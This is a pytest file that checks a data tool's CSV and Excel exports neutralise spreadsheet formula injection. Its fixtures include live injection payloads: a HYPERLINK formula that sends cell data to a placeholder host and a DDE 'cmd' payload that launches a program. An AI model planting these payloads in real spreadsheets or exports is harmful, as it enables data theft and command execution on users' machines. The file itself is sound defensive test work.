"""Text from the data is never a live spreadsheet formula: the report workbook writes it as
text, the CSV export starts it with a quote (or writes it exactly with --exact), and the
importer reads both back to the same delivery (issue 11, "Hardening")."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.conftest import CliResult, valid_tables, write_tables
from werkbrug.deliveries.models import Delivery
from werkbrug.exchange.formulas import neutralise, restore

pytestmark = pytest.mark.django_db

Run = Callable[..., CliResult]
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'
HOSTILE = [HYPERLINK, "+31 6 1234 5678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "''=al gequote"]


def _hostile_delivery(tmp_path: Path) -> Path:
    """A delivery whose names a spreadsheet would compute. The last one is written as the
    export writes a text that starts with a quote and '=': it is read as "'=al gequote"."""
    tables = valid_tables()
    tables["projects"][0]["name"] = HYPERLINK
    first = tables["employers"][0]
    tables["employers"] = [
        dict(first, id=f"E{i}", name=name) for i, name in enumerate(HOSTILE, start=1)
    ]
    return write_tables(tmp_path / "d", tables)


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_the_csv_export_starts_formula_like_text_with_a_quote(run: Run, tmp_path: Path) -> None:
    assert run("import", _hostile_delivery(tmp_path), "--name", "formules").code == 0
    assert run("export", "formules", tmp_path / "uit").code == 0
    cells = _cells(tmp_path / "uit" / "employers.csv") + _cells(tmp_path / "uit" / "projects.csv")
    assert "'" + HYPERLINK in cells
    assert "'+31 6 1234 5678" in cells
    assert "''=al gequote" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_the_exact_export_writes_text_as_it_is(run: Run, tmp_path: Path) -> None:
    assert run("import", _hostile_delivery(tmp_path), "--name", "formules").code == 0
    assert run("export", "formules", tmp_path / "exact", "--exact").code == 0
    cells = _cells(tmp_path / "exact" / "employers.csv")
    assert HYPERLINK in _cells(tmp_path / "exact" / "projects.csv")
    assert "'=al gequote" in cells


def test_both_exports_read_back_to_the_same_delivery(run: Run, tmp_path: Path) -> None:
    assert run("import", _hostile_delivery(tmp_path), "--name", "formules").code == 0
    assert run("export", "formules", tmp_path / "uit").code == 0
    assert run("export", "formules", tmp_path / "exact", "--exact").code == 0
    assert run("import", tmp_path / "uit", "--name", "terug").code == 0
    assert run("import", tmp_path / "exact", "--name", "exact", "--exact").code == 0
    hashes = set(Delivery.objects.values_list("content_hash", flat=True))
    assert len(hashes) == 1


def test_the_report_workbook_writes_a_formula_like_name_as_text(run: Run, tmp_path: Path) -> None:
    assert run("import", _hostile_delivery(tmp_path), "--name", "formules").code == 0
    target = tmp_path / "rapport.xlsx"
    assert run("report", "--delivery", "formules", "--format", "xlsx", "-o", target).code == 0
    book = load_workbook(target)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert HYPERLINK in [c.value for c in cells]


@given(st.text())
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(text: str) -> None:
    assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
